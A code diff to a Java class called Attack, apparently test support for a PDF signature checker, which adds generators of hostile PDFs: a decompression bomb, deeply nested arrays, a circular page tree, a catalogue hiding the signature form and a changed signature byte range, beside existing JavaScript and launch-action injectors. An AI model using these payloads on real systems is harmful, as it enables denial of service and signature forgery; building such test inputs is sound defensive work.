@@ -26,11 +26,11 @@ import org.apache.pdfbox.pdmodel.interactive.form.PDTextField;
 /// files are among them: shadow content, certification, universal forgery and incremental saving.
 /// Sources: Mladenov and others, CCS 2019; Mainka and others, NDSS 2021; Rohlmann and others, S&P
 /// 2021.
-final class Attack {
+public final class Attack {
 
     private Attack() {}
 
-    static byte[] javaScript(byte[] file) {
+    public static byte[] javaScript(byte[] file) {
         return Forgery.incremented(
                 file,
                 document -> {
@@ -40,7 +40,7 @@ final class Attack {
                 });
     }
 
-    static byte[] launch(byte[] file) {
+    public static byte[] launch(byte[] file) {
         return Forgery.incremented(
                 file,
                 document -> {
@@ -49,7 +49,7 @@ final class Attack {
                 });
     }
 
-    static byte[] externalReference(byte[] file) {
+    public static byte[] externalReference(byte[] file) {
         return Forgery.incremented(
                 file,
                 document -> {
@@ -211,6 +211,17 @@ final class Attack {
         return changed;
     }
 
+    /// The last digit of the last value that is not filling.
+    static byte[] lastDigitChanged(byte[] file) {
+        byte[] changed = file.clone();
+        int place = lastRange(file)[2] - 2;
+        while (changed[place] == '0') {
+            place--;
+        }
+        changed[place] = (byte) (changed[place] == '1' ? '2' : '1');
+        return changed;
+    }
+
     /// The last signature loses an entry of its dictionary: the name is spelled otherwise.
     static byte[] entryLost(byte[] file, String name) {
         byte[] changed = file.clone();
@@ -289,7 +300,7 @@ final class Attack {
     }
 
     /// A paper of very many pages.
-    static byte[] manyPages(int count) {
+    public static byte[] manyPages(int count) {
         try (PDDocument document = new PDDocument();
                 ByteArrayOutputStream out = new ByteArrayOutputStream()) {
             for (int page = 0; page < count; page++) {
@@ -300,5 +311,93 @@ final class Attack {
         } catch (IOException broken) {
             throw new UncheckedIOException(broken);
         }
+    }
+
+    /// A few thousand bytes on every page that unpack to a gigabyte.
+    public static byte[] unpackingToMuch(byte[] file) {
+        return Forgery.incremented(
+                file,
+                document -> {
+                    COSStream bomb = document.getDocument().createCOSStream();
+                    try (var out = bomb.createOutputStream(COSName.FLATE_DECODE)) {
+                        byte[] blank = new byte[1024 * 1024];
+                        Arrays.fill(blank, (byte) ' ');
+                        for (int megabyte = 0; megabyte < 1024; megabyte++) {
+                            out.write(blank);
+                        }
+                    }
+                    COSDictionary page = document.getPage(0).getCOSObject();
+                    page.setItem(COSName.CONTENTS, bomb);
+                    page.setNeedToBeUpdated(true);
+                });
+    }
+
+    /// Lists in lists, so deep that whoever follows them falls.
+    public static byte[] nestedDeep(byte[] file, int depth) {
+        return defined(file, 9000, "[".repeat(depth) + "]".repeat(depth), 9000);
+    }
+
+    /// A tree of pages that is its own branch, four times.
+    public static byte[] pagesInCircles(byte[] file) {
+        String pages = "<</Type/Pages/Count 4/Kids[" + "9000 0 R ".repeat(4) + "]>>";
+        String catalog = "<</Type/Catalog/Pages 9000 0 R/AcroForm %d 0 R>>";
+        return defined(
+                defined(file, 9000, pages, root(file, COSName.ROOT)),
+                root(file, COSName.ROOT),
+                catalog.formatted(root(file, COSName.ACRO_FORM)),
+                root(file, COSName.ROOT));
+    }
+
+    /// A catalogue that says nothing of any form: no reader finds a signature then.
+    public static byte[] formForgotten(byte[] file) {
+        return defined(
+                file,
+                root(file, COSName.ROOT),
+                "<</Type/Catalog/Pages %d 0 R>>".formatted(root(file, COSName.PAGES)),
+                root(file, COSName.ROOT));
+    }
+
+    /// The number of the catalogue, or of what it calls `entry`.
+    private static long root(byte[] file, COSName entry) {
+        try (PDDocument document = Loader.loadPDF(file)) {
+            COSDictionary trailer = document.getDocument().getTrailer();
+            COSDictionary from =
+                    entry.equals(COSName.ROOT)
+                            ? trailer
+                            : document.getDocumentCatalog().getCOSObject();
+            return from.getCOSObject(entry).getKey().getNumber();
+        } catch (IOException broken) {
+            throw new UncheckedIOException(broken);
+        }
+    }
+
+    /// A further revision in which one object is as said.
+    private static byte[] defined(byte[] file, long number, String value, long root) {
+        byte[] words =
+                "\n%d 0 obj\n%s\nendobj\n"
+                        .formatted(number, value)
+                        .getBytes(StandardCharsets.US_ASCII);
+        byte[] table =
+                ("xref\n%d 1\n%010d 00000 n \ntrailer\n"
+                                + "<</Size 9001/Root %d 0 R/Prev %s>>\nstartxref\n%d\n%%%%EOF\n")
+                        .formatted(
+                                number,
+                                file.length + 1,
+                                root,
+                                lastTable(file),
+                                file.length + words.length)
+                        .getBytes(StandardCharsets.US_ASCII);
+        byte[] all = Arrays.copyOf(file, file.length + words.length + table.length);
+        System.arraycopy(words, 0, all, file.length, words.length);
+        System.arraycopy(table, 0, all, file.length + words.length, table.length);
+        return all;
+    }
+
+    /// Where the last table of objects begins, as the file says.
+    private static String lastTable(byte[] file) {
+        int from = last(file, "startxref") + "startxref".length();
+        return new String(file, from, file.length - from, StandardCharsets.US_ASCII)
+                .strip()
+                .split("\\s+")[0];
     }
 }
